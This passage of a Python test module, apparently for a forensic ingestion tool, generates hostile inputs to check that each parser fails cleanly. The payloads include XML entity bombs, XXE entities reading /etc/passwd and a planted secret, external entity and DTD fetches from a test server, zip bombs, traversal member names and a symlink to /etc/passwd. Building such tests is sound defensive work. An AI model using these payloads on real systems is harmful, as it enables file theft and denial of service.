"""Structural hostile inputs for every parser, and the runner that ingests them out of process.

:mod:`tests.test_fuzz` mutates bytes inside the test process; a hostile *structure* (JSON
nested 200,000 deep, an XML entity bomb, a zip bomb, a SQLite view that never ends) can
take the process down with it (a segmentation fault in a C library, the memory of the
machine, a loop), which an in-process test cannot even report. Here every variant is
ingested by ``atlas ingest`` (the CLI's ``main``) in a child process with a timeout and an
address-space limit, and what came back is judged by the contract:

* exit status 0, or 2 (Atlas's clean one-line error): no signal, no timeout, no
  MemoryError, no traceback, no "internal error" (70);
* a clean error names the file, and is Atlas's own word on the input, not the catch-all
  boundary's "parser failed" (which means a parser met something it did not expect);
* a failure leaves the case store byte for byte as it was; a success accounts for every
  record (read = events + rejects) and, where the variant keeps every record of the
  seed, reads as many records as the seed;
* nothing from outside the file (a local file an XML entity names, a URL) reaches the
  store, and no URL is fetched.

Variants are built from a real-format seed per parser (the synthetic-case generator's
files, a small Meta HTML page): :data:`SPECS` names them (so pytest can list them without
building anything) and :func:`build` writes one.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import zipfile
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

FULL = os.environ.get("ATLAS_HOSTILE_FULL") == "1"
"""The bigger sweep (``make hostile``): the sizes the brief names, not the ones that prove the point."""

ONLY = os.environ.get("ATLAS_HOSTILE_ONLY", "")
"""Comma-separated parts of variant ids (``x-archive:big-``): only the variants whose id holds one are run
(a quick look at the ones a change touches; the seeds are all built and read as always)."""
MB = 1 << 20
BIG_STRING = (50 if FULL else 8) * MB
"""One JSON string / XML attribute / HTML text this long."""
MANY_KEYS = 1_000_000 if FULL else 200_000
LONG_LINE = (100 if FULL else 8) * MB
MANY_COLUMNS = 100_000
BOMB = (1024 if FULL else 256) * MB
"""Bytes a zip member inflates to (zeros or blanks compressed about 1,000 to 1)."""
DEPTHS = (3_000, 30_000, 200_000)
XML_DEPTH = 100_000
SECRET = "HOSTILE-SECRET-5f1c9e"
"""Written into a local file an XML entity names: it must never reach the store."""

JSON_PARSERS = ("google-records-json", "google-semantic-json", "google-timeline-json", "meta-dyi-json",
                "telegram-json", "snapchat", "x-archive")
EXTRA_TABLE_PARSERS = ("meta-dyi-json", "x-archive")
"""The JSON parsers that hand over extra tables (reactions; X's conversations): ``big-reaction`` and
``big-conversation-name`` put the value in a row of one (the record it belongs to must be one reject)."""
JSON_TEXT_PARSERS = ("google-semantic-json", "meta-dyi-json", "telegram-json", "snapchat", "x-archive")
"""The JSON parsers that store a record's text (a message's, a place's name): ``big-text`` puts the value there."""
CSV_PARSERS = ("cdr", "cell-sites", "subscriber", "tool-export", "google-returns-csv", "snapchat-csv")
TEXT_PARSERS = ("whatsapp-text", "signal-text")
SQLITE_PARSERS = ("android-calllog", "android-contacts", "android-mmssms", "ios-addressbook", "ios-callhistory",
                  "ios-sms", "whatsapp-android-contacts", "whatsapp-android-db", "whatsapp-ios-db",
                  "whatsapp-ios-contacts", "whatsapp-ios-calls")

# seed key → (parser, generator scenario, path suffix) ; a key with no scenario is built here
SEEDS: dict[str, tuple[str, str, str]] = {
    "google-records-json": ("google-records-json", "covert", "Records.json"),
    "google-semantic-json": ("google-semantic-json", "covert", "2026_MARCH.json"),
    "google-timeline-json": ("google-timeline-json", "covert", "Timeline.json"),
    "meta-dyi-json": ("meta-dyi-json", "third-parties", "message_1.json"),
    "telegram-json": ("telegram-json", "clean", "result.json"),
    "snapchat": ("snapchat", "clean", "chat_history.json"),
    "x-archive": ("x-archive", "clean", "direct-messages.js"),
    "cdr": ("cdr", "covert", "_a-party-b-party_cdr.csv"),
    "cdr-xlsx": ("cdr", "third-parties", "_msisdn-other-party_cdr.xlsx"),
    "cell-sites": ("cell-sites", "clean", "network-a_cell_sites.csv"),
    "subscriber": ("subscriber", "clean", "subscriber_return.csv"),
    "tool-export": ("tool-export", "covert", "AXIOM export/Call Log.csv"),
    "google-returns-csv": ("google-returns-csv", "time-limit", "Location History.csv"),
    "snapchat-csv": ("snapchat", "clean", "conversations.csv"),
    "whatsapp-text": ("whatsapp-text", "covert", "WhatsApp Chat with Mum.txt"),
    "signal-text": ("signal-text", "clean", "Signal chat with Sam.txt"),
    "cellebrite-xml": ("cellebrite-xml", "covert", "suspect-handset.ufdr"),
    "cellebrite-ufdr": ("cellebrite-xml", "covert", "suspect-handset.ufdr"),
    "meta-dyi-html": ("meta-dyi-html", "", ""),
    "android-calllog": ("android-calllog", "covert", "calllog.db"),
    "android-contacts": ("android-contacts", "clean", "contacts2.db"),
    "android-mmssms": ("android-mmssms", "covert", "mmssms.db"),
    "ios-addressbook": ("ios-addressbook", "clean", "AddressBook.sqlitedb"),
    "ios-callhistory": ("ios-callhistory", "third-parties", "CallHistory.storedata"),
    "ios-sms": ("ios-sms", "clean", "sms.db"),
    "whatsapp-android-contacts": ("whatsapp-android-contacts", "clean", "wa.db"),
    "whatsapp-android-db": ("whatsapp-android-db", "clean", "msgstore.db"),
    "whatsapp-ios-db": ("whatsapp-ios-db", "", "ChatStorage.sqlite"),
    "whatsapp-ios-contacts": ("whatsapp-ios-contacts", "", "ContactsV2.sqlite"),
    "whatsapp-ios-calls": ("whatsapp-ios-calls", "", "CallHistory.sqlite"),
}
SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
WHATSAPP_IOS = SAMPLES / "ileapp-josh-ios15-whatsapp"

# the table each SQLite parser reads its records from, and the column names to attack
SQLITE_TABLES: dict[str, str] = {
    "android-calllog": "calls", "android-contacts": "data", "android-mmssms": "sms", "ios-addressbook": "ABMultiValue",
    "ios-callhistory": "ZCALLRECORD", "ios-sms": "message", "whatsapp-android-contacts": "wa_contacts",
    "whatsapp-android-db": "message", "whatsapp-ios-db": "ZWAMESSAGE", "whatsapp-ios-contacts": "ZWAADDRESSBOOKCONTACT",
    "whatsapp-ios-calls": "ZWACDCALLEVENT",
}


@dataclass(frozen=True)
class Spec:
    """One hostile variant: which seed, which change, whether detection or the named parser reads it."""

    seed: str
    variant: str
    detect: bool = False
    keeps_records: bool = True
    """The change keeps every record of the seed: a success must read as many."""

    @property
    def parser(self) -> str:
        return SEEDS[self.seed][0]

    @property
    def bound_reject(self) -> bool:
        """The variant's record over its format's bound must be one reject naming it (a bound's reason),
        never the whole file refused or the record read whole: a UTF-16 file's record (bounded per
        physical line until session 14), a message's text in a JSON parser that stores one."""
        return (self.variant.startswith(("utf16-", "big-reaction", "big-conversation-name"))
                or (self.variant == "big-text" and self.seed in JSON_TEXT_PARSERS))

    @property
    def refused_with(self) -> str | None:
        """What follows the file's name in the error the variant must be refused with (exit 2): where a read
        would be silently short, or the error would not say what is wrong."""
        if self.seed == "cellebrite-ufdr":
            return UFDR_REFUSED.get(self.variant)
        return WAL_REFUSED.get(self.variant) if self.seed in SQLITE_PARSERS else None

    @property
    def names_line(self) -> bool:
        """A CSV with a quote that never closes: refused with an error naming the file and the quote's line."""
        return self.variant.startswith("quote-open-")

    @property
    def id(self) -> str:
        return f"{self.seed}:{self.variant}" + (":detect" if self.detect else "")


@dataclass
class Built:
    path: Path
    forbid: list[str] = field(default_factory=list)
    """Text that must not appear in any stored event or reject."""


def _specs() -> list[Spec]:
    """Every variant of the full sweep; the default run keeps the ones that prove each point once
    (3,000 levels: past Python's recursion limit, short of Arrow's crash; 30,000: the crash the
    last session found; 200,000: a whole document), and ``ATLAS_HOSTILE_FULL=1`` all of them."""
    out: list[Spec] = []
    for seed in JSON_PARSERS:
        for depth in DEPTHS:
            out.append(Spec(seed, f"deep-document-{depth}", keeps_records=False))
            out.append(Spec(seed, f"deep-top-key-{depth}"))
            out.append(Spec(seed, f"deep-unread-object-{depth}"))
            out.append(Spec(seed, f"deep-unread-array-{depth}"))
            out.append(Spec(seed, f"deep-read-field-{depth}"))
            out.append(Spec(seed, f"deep-document-{depth}", detect=True, keeps_records=False))
            out.append(Spec(seed, f"deep-top-key-{depth}", detect=True))
        for number in NUMBERS:
            out.append(Spec(seed, f"number-{number}"))
        out += [Spec(seed, "big-string"), Spec(seed, "big-text"), Spec(seed, "many-keys"), Spec(seed, "repeated-key"),
                Spec(seed, "repeated-key-unread")]
        if seed in EXTRA_TABLE_PARSERS:
            out.append(Spec(seed, "big-reaction"))
            if seed == "x-archive":  # (a name change is a record of its own: one more read than the seed)
                out.append(Spec(seed, "big-conversation-name", keeps_records=False))
    for seed in ("cellebrite-xml",):
        for v in ("billion-laughs", "quadratic-blowup", "xxe-file", "xxe-url", "xxe-parameter", "external-dtd",
                  "deep-elements-root", "deep-elements-field", "huge-attribute", "huge-text", "unclosed-deep"):
            out.append(Spec(seed, v))
        out.append(Spec(seed, "billion-laughs", detect=True))
        out.append(Spec(seed, "xxe-file", detect=True))
    for v in ("bomb-unread-member", "bomb-report", "traversal-names", "absolute-name", "symlink-report",
              "nested-zip", "encrypted-report", "duplicate-report", "xxe-in-zip", *UFDR_METHOD_VARIANTS):
        out.append(Spec("cellebrite-ufdr", v, keeps_records=v in ("bomb-unread-member", "traversal-names",
                                                                   "absolute-name", "xxe-in-zip")))
    out.append(Spec("cellebrite-ufdr", "bomb-report", detect=True, keeps_records=False))
    for v in ("bomb-sheet", "bomb-shared-strings", "traversal-names", "big-cell"):
        out.append(Spec("cdr-xlsx", v, keeps_records=v in ("traversal-names", "big-cell")))
    out.append(Spec("cdr-xlsx", "bomb-sheet", detect=True, keeps_records=False))
    for v in ("deep-div-before", "deep-div-in-box", "unclosed-deep", "big-text"):
        out.append(Spec("meta-dyi-html", v))
    out.append(Spec("meta-dyi-html", "unclosed-deep", detect=True))
    for seed in CSV_PARSERS:
        for v in ("quote-open-header", "quote-open-header-last", "quote-open-row"):
            out.append(Spec(seed, v, keeps_records=False))
    for seed in CSV_PARSERS + TEXT_PARSERS:
        for v in ("long-last-line", "long-field", "many-short-lines", "many-columns-row", "many-columns-header",
                  "nul-fields", "nul-run", "utf16-long-field", "utf16-many-short-lines"):
            out.append(Spec(seed, v, keeps_records=False))
        out.append(Spec(seed, "long-last-line", detect=True, keeps_records=False))
    for seed in SQLITE_PARSERS:
        for v in SQLITE_VARIANTS:
            out.append(Spec(seed, v, keeps_records=v not in ("table-is-infinite-view", "page-size-header-lie",
                                                             "page-count-lie", *WAL_REFUSED)))
        out.append(Spec(seed, "table-is-infinite-view", detect=True, keeps_records=False))
    out = out if FULL else [s for s in out if _in_default(s)]
    return [s for s in out if any(w in s.id for w in ONLY.split(","))] if ONLY else out


SQLITE_VARIANTS = ("huge-blob", "huge-text", "triggers-and-views", "wide-table", "recursive-view",
                   "table-is-infinite-view", "page-size-65536", "page-size-header-lie", "page-count-lie", "type-lies",
                   "real-specials", "wal-whole", "wal-cut-mid-frame", "wal-damaged-frame")
WAL_REFUSED = {"wal-cut-mid-frame": ": its -wal is cut", "wal-damaged-frame": ": its -wal is damaged"}
"""The -wal variants SQLite alone would read short without a word (session 18): refused, with these words."""
UFDR_METHOD_VARIANTS = ("report-bzip2-damaged", "report-lzma-damaged", "report-deflate64")
"""A report compressed with another zip method (bzip2 and LZMA, damaged; Deflate64, which zipfile cannot read)."""
UFDR_REFUSED = {"report-bzip2-damaged": "!report.xml: the compressed report is damaged",
                "report-lzma-damaged": "!report.xml: the compressed report is damaged",
                "report-deflate64": ": report.xml in the UFDR is compressed with zip method 9 (Deflate64)"}


def _in_default(s: Spec) -> bool:
    v = s.variant
    if s.seed in JSON_PARSERS:
        if v.startswith("deep-document-"):
            return v.endswith(("-3000", "-200000")) and not (s.detect and v.endswith("-3000"))
        if v.startswith("deep-"):
            return v.endswith("-30000") or (v.endswith("-3000") and v.startswith("deep-read-field"))
        if v.startswith("number-"):
            return v in ("number-1e400", "number-400-digits", "number-NaN", "number-neg-Infinity")
        return True
    if s.seed in CSV_PARSERS or s.seed in TEXT_PARSERS:
        return v not in ("nul-run",) and not s.detect
    if s.seed in SQLITE_PARSERS:
        return v in ("huge-blob", "huge-text", "triggers-and-views", "wide-table", "table-is-infinite-view",
                     "page-count-lie", "type-lies", "wal-cut-mid-frame", "wal-damaged-frame") and not s.detect
    return True


NUMBERS = {"1e400": "1e400", "neg-1e400": "-1e400", "400-digits": "9" * 400, "neg-zero": "-0",
           "NaN": "NaN", "Infinity": "Infinity", "neg-Infinity": "-Infinity", "tiny": "1e-400"}
SPECS: list[Spec] = _specs()


# --- seeds ----------------------------------------------------------------------------------

META_BOX = '<div class="pam _3-95 _2ph- _a6-g uiBoxWhite noborder">'


def meta_html_page(extra_before: str = "", in_box: str = "", text: str = "I saw you today") -> str:
    boxes = [f'{META_BOX}<div class="_a6-p">Participants: D and Alice Example</div></div>']
    for i in range(3):
        boxes.append(
            f'{META_BOX}<h2 class="_3-95 _2pim _a6-h _a6-i">D</h2><div class="_3-95 _a6-p"><div><div></div>'
            f'<div>{text if i == 0 else "hello " + str(i)}{in_box if i == 1 else ""}</div><div></div><div></div></div></div>'
            f'<div class="_3-94 _a6-o">Jun 1{i}, 2026 12:31 pm</div></div>')
    return ('<html><head><meta charset="utf-8"><base href="../../../../" /></head><body><main>'
            + extra_before + "".join(boxes) + "</main></body></html>")


def make_seeds(root: Path) -> dict[str, Path]:
    """seed key → a file of that format (the generator's, a built HTML page, or the public WhatsApp sample)."""
    from tests._generated import generate_copy as generate

    found: dict[str, Path] = {}
    for scenario in sorted({s for _, s, _ in SEEDS.values() if s}):
        generate(scenario, 1, 0.02, root / scenario)
        files = sorted((root / scenario / "sources").rglob("*"))
        for key, (_, sc, suffix) in SEEDS.items():
            if sc == scenario:
                hits = [f for f in files if (f.is_file() and f.as_posix().endswith("/" + suffix.lstrip("_")))
                        or (f.is_file() and suffix.startswith("_") and f.as_posix().endswith(suffix))]
                if hits:
                    found[key] = min(hits, key=lambda f: f.stat().st_size)
    if "ios-callhistory" in found:  # the generator's small cases hold no calls: give the seed some
        filled = root / "ios-calls" / "CallHistory.storedata"
        filled.parent.mkdir(parents=True, exist_ok=True)
        _db_copy(found["ios-callhistory"], filled)
        with closing(sqlite3.connect(filled)) as con:
            names = {c for c, _ in _columns(con, "ZCALLRECORD")}
            row = {"ZDATE": 800_000_000.0, "ZDURATION": 42.0, "ZORIGINATED": 1, "ZADDRESS": "+447700900123",
                   "ZANSWERED": 1, "ZCALLTYPE": 1, "ZSERVICE_PROVIDER": "com.apple.Telephony"}
            row = {k: v for k, v in row.items() if k in names}
            for i in range(4):
                con.execute(f"INSERT INTO ZCALLRECORD({', '.join(row)}) VALUES ({', '.join('?' * len(row))})",
                            [v + i * 3600 if k == "ZDATE" else v for k, v in row.items()])
            con.commit()
        found["ios-callhistory"] = filled
    html = root / "meta" / "message_1.html"
    html.parent.mkdir(parents=True, exist_ok=True)
    html.write_text(meta_html_page(), encoding="utf-8")
    found["meta-dyi-html"] = html
    for key in ("whatsapp-ios-db", "whatsapp-ios-contacts", "whatsapp-ios-calls"):
        hits = sorted(WHATSAPP_IOS.rglob(SEEDS[key][2])) if WHATSAPP_IOS.is_dir() else []
        if hits:
            found[key] = hits[0]
    return found


# --- JSON -------------------------------------------------------------------------------------

def _deep(depth: int, shape: str) -> str:
    return '{"a":' * depth + "1" + "}" * depth if shape == "object" else "[" * depth + "]" * depth


def _split_js(text: str) -> tuple[str, str]:
    """An X archive's ``window.YTD.x.part0 = `` prefix, and the JSON after it."""
    if text.startswith("window.") and "=" in text:
        head, _, body = text.partition("=")
        return head + "= ", body.lstrip()
    return "", text


def _scalar(v: Any) -> bool:
    return isinstance(v, (str, int, float, bool)) or v is None


READ_HINTS = ("timestamp", "time", "date", "created", "latitude", "lat", "text", "content", "sender", "from",
              "participant", "sent")


def _record(doc: Any) -> dict[str, Any]:
    """The first object inside a list that holds two or more plain values: a record the parser reads."""
    stack: list[tuple[Any, bool]] = [(doc, False)]
    while stack:
        node, in_list = stack.pop(0)
        if isinstance(node, dict):
            if in_list and sum(_scalar(v) for v in node.values()) >= 2:
                return node
            stack[:0] = [(v, in_list) for v in node.values()]
        elif isinstance(node, list):
            stack[:0] = [(v, True) for v in node]
    raise ValueError("no record in the seed")


def _read_key(rec: dict[str, Any], want: type | tuple[type, ...] | None = None) -> str:
    keys = [k for k, v in rec.items() if _scalar(v) and v is not None and (want is None or isinstance(v, want))
            and not isinstance(v, bool)]
    for hint in READ_HINTS:
        for k in keys:
            if hint in k.lower():
                return k
    if keys:
        return keys[0]
    return next(k for k, v in rec.items() if _scalar(v))


TEXT_HINTS = ("text", "content", "body", "message", "address", "name")
"""Keys holding what a JSON parser stores as an event's text, most likely first."""


def _text_key(rec: dict[str, Any]) -> str:
    keys = [k for k, v in rec.items() if isinstance(v, str)]
    for hint in TEXT_HINTS:
        for k in keys:
            if k.lower() == hint or k.lower().endswith(hint):
                return k
    return _read_key(rec, str)


def _json_variant(seed: Path, variant: str) -> bytes:
    prefix, body = _split_js(seed.read_text(encoding="utf-8-sig"))
    doc = json.loads(body)
    raws: dict[str, str] = {}

    def hole(raw: str) -> str:
        key = f"@@HOSTILE{len(raws)}@@"
        raws[key] = raw
        return key

    if variant.startswith("deep-document-"):
        return (prefix + _deep(int(variant.rsplit("-", 1)[1]), "array")).encode()
    rec = _record(doc)
    if variant.startswith("deep-top-key-"):
        raw = _deep(int(variant.rsplit("-", 1)[1]), "object")
        if isinstance(doc, dict):
            doc["zzHostile"] = hole(raw)
        else:  # a bare list: the deep value rides on the first record, in a key of its own
            rec["zzHostile"] = hole(raw)
    elif variant.startswith("deep-unread-"):
        depth, shape = int(variant.rsplit("-", 1)[1]), variant.split("-")[2]
        rec["zzHostile"] = hole(_deep(depth, shape))
    elif variant.startswith("deep-read-field-"):
        rec[_read_key(rec)] = hole(_deep(int(variant.rsplit("-", 1)[1]), "array"))
    elif variant.startswith("number-"):
        rec[_read_key(rec, (int, float))] = hole(NUMBERS[variant.removeprefix("number-")])
    elif variant == "big-string":
        rec[_read_key(rec, str)] = "A" * BIG_STRING
    elif variant == "big-text":  # in a field a parser stores as the event's text (a message's), where the record has one
        rec[_text_key(rec)] = "A" * BIG_STRING
    elif variant == "big-reaction":  # a reaction to the first message: a row of the extra table ``reactions``
        if "messages" in doc and isinstance(doc, dict):  # a Meta thread
            msg = doc["messages"][0]
            msg["reactions"] = [{"reaction": "A" * BIG_STRING, "actor": msg.get("sender_name", "Someone")}]
        else:  # X: a message's reactions
            msg = doc[0]["dmConversation"]["messages"][0]["messageCreate"]
            msg["reactions"] = [{"senderId": msg["recipientId"], "reactionKey": "A" * BIG_STRING,
                                 "eventId": "1800000000000000001", "createdAt": msg["createdAt"]}]
    elif variant == "big-conversation-name":  # X: a conversation's name change (a row of ``dm_conversations``)
        conv = doc[0]["dmConversation"]
        conv["messages"].insert(0, {"conversationNameUpdate": {"initiatingUserId": conv["messages"][0]["messageCreate"][
            "senderId"], "name": "A" * BIG_STRING, "createdAt": "2026-05-31T13:00:00.000Z"}})
    elif variant == "many-keys":
        rec.update({f"k{i:07d}": i for i in range(MANY_KEYS)})
    elif variant in ("repeated-key", "repeated-key-unread"):
        key = _read_key(rec) if variant == "repeated-key" else "zzRepeated"
        value = rec.get(key, 1)
        rec[hole(json.dumps(key))] = "other" if isinstance(value, str) else 0
        if variant == "repeated-key-unread":
            rec[key] = 1
    else:
        raise ValueError(variant)
    text = json.dumps(doc, ensure_ascii=False)
    for key, raw in raws.items():
        text = text.replace(json.dumps(key), raw, 1)
    return (prefix + text).encode("utf-8")


# --- XML, zips --------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def _report_xml(seed: Path) -> str:
    with zipfile.ZipFile(seed) as zf:
        return zf.read("report.xml").decode("utf-8")


def _with_doctype(xml: str, dtd: str) -> str:
    head, _, rest = xml.partition("?>")
    return f"{head}?>\n<!DOCTYPE project [{dtd}]>{rest}"


def _first_value(xml: str, new: str) -> str:
    """The report with the first chat message's body (any first CDATA value inside decodedData) replaced."""
    start = xml.index("<decodedData>")
    m = re.compile(r"<!\[CDATA\[[^\]]*\]\]>").search(xml, start)
    assert m is not None
    return xml[: m.start()] + new + xml[m.end():]


def _xml_variant(seed: Path, variant: str, server: str, secret: Path) -> str:
    xml = _report_xml(seed)
    if variant == "billion-laughs":
        return _first_value(_with_doctype(xml, '<!ENTITY lol0 "lol">' + LAUGHS), "&lol9;")
    if variant == "quadratic-blowup":
        return _first_value(_with_doctype(xml, f'<!ENTITY big "{"B" * 50_000}">'), "&big;" * 20_000)
    if variant == "xxe-file":
        return _first_value(_with_doctype(xml, f'<!ENTITY xxe SYSTEM "file://{secret}">'
                                               '<!ENTITY pw SYSTEM "file:///etc/passwd">'), "&xxe;&pw;")
    if variant == "xxe-url":
        return _first_value(_with_doctype(xml, f'<!ENTITY xxe SYSTEM "{server}/entity">'), "&xxe;")
    if variant == "xxe-parameter":
        return _first_value(_with_doctype(xml, f'<!ENTITY % p SYSTEM "{server}/param.dtd">%p;'
                                               f'<!ENTITY % f SYSTEM "file://{secret}">'), "x")
    if variant == "external-dtd":
        head, _, rest = xml.partition("?>")
        return f'{head}?>\n<!DOCTYPE project SYSTEM "{server}/report.dtd">{rest}'
    if variant == "deep-elements-root":
        i = xml.index("<decodedData>")
        return xml[:i] + "<a>" * XML_DEPTH + "</a>" * XML_DEPTH + xml[i:]
    if variant == "deep-elements-field":
        return _first_value(xml, "<a>" * XML_DEPTH + "x" + "</a>" * XML_DEPTH)
    if variant == "huge-attribute":
        i = xml.index('<model type="Chat"') + len("<model")
        return xml[:i] + f' zzHostile="{"A" * BIG_STRING}"' + xml[i:]
    if variant == "huge-text":
        return _first_value(xml, "A" * BIG_STRING)
    if variant == "unclosed-deep":
        i = xml.index("<decodedData>")
        return xml[:i] + "<a>" * XML_DEPTH + xml[i:]
    raise ValueError(variant)


def _zinfo(name: str, **kw: Any) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    for k, v in kw.items():
        setattr(info, k, v)
    return info


def _write_big(zf: zipfile.ZipFile, name: str, size: int, head: bytes = b"", fill: bytes = b"\0", tail: bytes = b"") -> None:
    chunk = fill * (MB // len(fill))
    with zf.open(_zinfo(name), "w", force_zip64=True) as fh:
        fh.write(head)
        for _ in range(size // MB):
            fh.write(chunk)
        fh.write(tail)


def _ufdr_variant(seed: Path, variant: str, out: Path, server: str, secret: Path) -> None:
    report = _report_xml(seed).encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        if variant == "bomb-unread-member":
            zf.writestr(_zinfo("report.xml"), report)
            _write_big(zf, "files/Image/zeros.bin", BOMB)
        elif variant == "bomb-report":
            _write_big(zf, "report.xml", BOMB)
        elif variant == "traversal-names":
            zf.writestr(_zinfo("report.xml"), report)
            zf.writestr(_zinfo("../../../../tmp/atlas-hostile-escape"), b"x")
            zf.writestr(_zinfo("files/../../report.xml"), b"<not-a-report/>")
        elif variant == "absolute-name":
            zf.writestr(_zinfo("report.xml"), report)
            zf.writestr(_zinfo("/etc/atlas-hostile"), b"x")
        elif variant == "symlink-report":
            zf.writestr(_zinfo("report.xml", external_attr=(0o120777 << 16), create_system=3), b"/etc/passwd")
        elif variant == "nested-zip":
            inner = out.with_suffix(".inner")
            shutil.copyfile(seed, inner)
            zf.write(inner, "inner.ufdr")
            inner.unlink()
        elif variant == "encrypted-report":
            zf.writestr(_zinfo("report.xml"), report)
        elif variant == "duplicate-report":
            zf.writestr(_zinfo("report.xml"), report)
            zf.writestr(_zinfo("report.xml"), b"<project/>")
        elif variant == "xxe-in-zip":
            zf.writestr(_zinfo("report.xml"), _xml_variant(seed, "xxe-file", server, secret).encode())
        elif variant in UFDR_METHOD_VARIANTS:
            method = {"report-bzip2-damaged": zipfile.ZIP_BZIP2, "report-lzma-damaged": zipfile.ZIP_LZMA,
                      "report-deflate64": zipfile.ZIP_STORED}[variant]
            zf.writestr(_zinfo("report.xml"), report, compress_type=method)
        else:
            raise ValueError(variant)
    if variant == "encrypted-report":
        _set_encrypted(out)
    elif variant in ("report-bzip2-damaged", "report-lzma-damaged"):
        data = bytearray(out.read_bytes())
        with zipfile.ZipFile(out) as zf:
            info = zf.getinfo("report.xml")
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
        for at in range(start + info.compress_size // 3, start + info.compress_size * 2 // 3, 97):
            data[at] ^= 0x5A  # damage in the middle third of the compressed data
        out.write_bytes(bytes(data))
    elif variant == "report-deflate64":
        _set_method(out, 9)


def _set_method(path: Path, method: int) -> None:
    """Set every entry's compression method (local and central headers): zipfile cannot write Deflate64."""
    data = bytearray(path.read_bytes())
    for sig, method_at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        i = data.find(sig)
        while i >= 0:
            data[i + method_at:i + method_at + 2] = method.to_bytes(2, "little")
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))


def _set_encrypted(path: Path) -> None:
    """Flip the 'encrypted' flag bit of every entry (local and central headers): zipfile cannot write encryption."""
    data = bytearray(path.read_bytes())
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i >= 0:
            data[i + flag_at] |= 1
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))


def _xlsx_variant(seed: Path, variant: str, out: Path) -> None:
    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in src.infolist():
            data = src.read(info)
            if variant == "bomb-sheet" and info.filename.startswith("xl/worksheets/sheet"):
                text = data.decode()
                i = text.index("<sheetData>") + len("<sheetData>")
                _write_big(zf, info.filename, BOMB, head=text[:i].encode(), fill=b" ", tail=text[i:].encode())
            elif variant == "big-cell" and info.filename == "xl/worksheets/sheet1.xml":
                # the last row's last cell holds BIG_STRING characters (an inline string)
                text = data.decode()
                end = text.rindex("</row>")
                start = text.rindex("<c ", 0, end)
                ref = re.match(r'<c r="([A-Z]+[0-9]+)"', text[start:])
                assert ref is not None
                zf.writestr(info, (text[:start] + f'<c r="{ref.group(1)}" t="inlineStr"><is><t>' + "A" * BIG_STRING
                                   + "</t></is></c>" + text[end:]).encode())
            elif variant == "bomb-shared-strings" and info.filename == "xl/sharedStrings.xml":
                text = data.decode()
                i = text.index("<t")
                _write_big(zf, info.filename, BOMB, head=text[:i].encode(), fill=b" ", tail=text[i:].encode())
            else:
                zf.writestr(info, data)
        if variant == "traversal-names":
            zf.writestr(_zinfo("../../../../tmp/atlas-hostile-escape"), b"x")
        if variant == "bomb-shared-strings" and "xl/sharedStrings.xml" not in src.namelist():
            _write_big(zf, "xl/sharedStrings.xml", BOMB, head=b'<?xml version="1.0"?><sst>', fill=b" ", tail=b"</sst>")


# --- HTML, CSV and text -----------------------------------------------------------------------

def _html_variant(variant: str) -> str:
    if variant == "deep-div-before":
        return meta_html_page(extra_before="<div>" * XML_DEPTH + "</div>" * XML_DEPTH)
    if variant == "deep-div-in-box":
        return meta_html_page(in_box="<div>" * XML_DEPTH + "x" + "</div>" * XML_DEPTH)
    if variant == "unclosed-deep":
        return meta_html_page(in_box="<div><span>" * (XML_DEPTH // 2))
    if variant == "big-text":
        return meta_html_page(text="A" * BIG_STRING)
    raise ValueError(variant)


def _lines_variant(seed: Path, variant: str, tabular: bool) -> bytes:
    if variant.startswith("utf16-"):  # as Windows Notepad saves "Unicode": UTF-16 LE with its byte-order mark
        return b"\xff\xfe" + _lines_variant(seed, variant.removeprefix("utf16-"), tabular).decode(
            "utf-8-sig", errors="replace").encode("utf-16-le")
    data = seed.read_bytes()
    lines = data.splitlines(keepends=True)
    sep = b"," if tabular else b" "
    last = len(lines) - 1
    if variant == "long-last-line":
        return data.rstrip(b"\r\n") + b"\n" + b"A" * LONG_LINE
    if variant == "long-field":  # the last record's last field runs on for LONG_LINE bytes
        lines[last] = lines[last].rstrip(b"\r\n") + b"A" * LONG_LINE + b"\n"
        return b"".join(lines)
    if variant == "many-short-lines":  # the last record runs on for LONG_LINE bytes of 80-byte lines:
        # a quoted CSV field holding them, or a chat message's continuation lines
        short = (b"A" * 79 + b"\n") * (LONG_LINE // 80)
        lines[last] = lines[last].rstrip(b"\r\n") + (b',"' + short + b'"\n' if tabular else b"\n" + short)
        return b"".join(lines)
    if variant == "many-columns-row":  # one row with 100,000 fields
        lines[last] = lines[last].rstrip(b"\r\n") + sep * MANY_COLUMNS + b"\n"
        return b"".join(lines)
    if variant == "many-columns-header":
        i = _header_index(lines) if tabular else 0
        lines[i] = lines[i].rstrip(b"\r\n") + b"".join(b"%sx%d" % (sep, n) for n in range(MANY_COLUMNS)) + b"\n"
        return b"".join(lines)
    if variant in ("quote-open-header", "quote-open-header-last", "quote-open-row"):
        # a quote that opens a field and never closes: in the header row (its first or last field), or in
        # the first data row; the table reader would read the rest of the file as that one field
        i = _table_header_index(lines) + (variant == "quote-open-row")
        row = lines[i]
        at = row.rindex(b",") + 1 if variant == "quote-open-header-last" else 0
        lines[i] = row[:at] + b'"' + row[at:]
        return b"".join(lines)
    if variant == "nul-fields":
        lines[last] = lines[last].replace(b",", b"\0,").replace(b" ", b"\0 ") + b"\0"
        return b"".join(lines)
    if variant == "nul-run":
        lines.insert(last, b"\0" * MB + b"\n")
        return b"".join(lines)
    raise ValueError(variant)


def _table_header_index(lines: list[bytes]) -> int:
    """The header row as the CSV reader splits it: the first of the rows with the most fields
    (a quoted field's delimiters not counted, unlike :func:`_header_index`)."""
    import csv

    widths = [len(next(csv.reader([line.decode("utf-8", "replace").strip("\r\n\ufeff")]), [])) for line in lines[:20]]
    return widths.index(max(widths))


def quote_variant_line(seed: Path, variant: str) -> int:
